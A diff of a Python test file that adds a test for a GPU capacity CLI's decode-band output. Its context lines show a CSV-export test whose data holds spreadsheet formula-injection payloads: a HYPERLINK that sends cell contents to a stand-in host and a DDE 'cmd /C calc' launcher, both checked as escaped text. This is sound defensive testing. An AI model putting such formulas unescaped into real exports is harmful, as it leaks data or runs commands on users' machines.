@@ -343,3 +343,20 @@ def test_text_a_spreadsheet_would_run_is_written_as_text():
     assert list(csv.reader(io.StringIO(to_csv(rows, cols)))) == [
         ["a", "b"], ['\'=HYPERLINK("http://x.example/?"&A1,"x")', "'+1+cmd|' /C calc'!A0"],
         ["'@SUM(1,1)", "'-2+3"], ["'\tx", "-1.5"], ["-2.0", "a=1"]]
+
+
+def test_capacity_says_a_widened_band_once_with_what_it_adds():
+    """Session 22's walk: `capacity --gpus h100-sxm,mi300x` printed the NVIDIA decode band twice, the second time
+    with the ROCm widening at its end; now the base once and the widening as what it adds."""
+    from types import SimpleNamespace
+
+    import gpuplan
+    from gpuplan.cli.capacity import _bands_said
+
+    job = {"model": "llama-3.2-1b", "task": "infer", "engine": "vllm"}
+    plans = [SimpleNamespace(plan=gpuplan.estimate({**job, "gpu": g}, advise=False)) for g in ("h100-sxm", "mi300x")]
+    base = plans[0].plan.speed.band
+    said = _bands_said(plans)
+    assert said == (f" Decode steps' band: {base}. Rows on other vendors' cards: the same band, widened by +-11% for "
+                    "the ROCm build's measured share (bench/results/rocm_share.md) (widened: other vendor).")
+    assert said.count(base) == 1
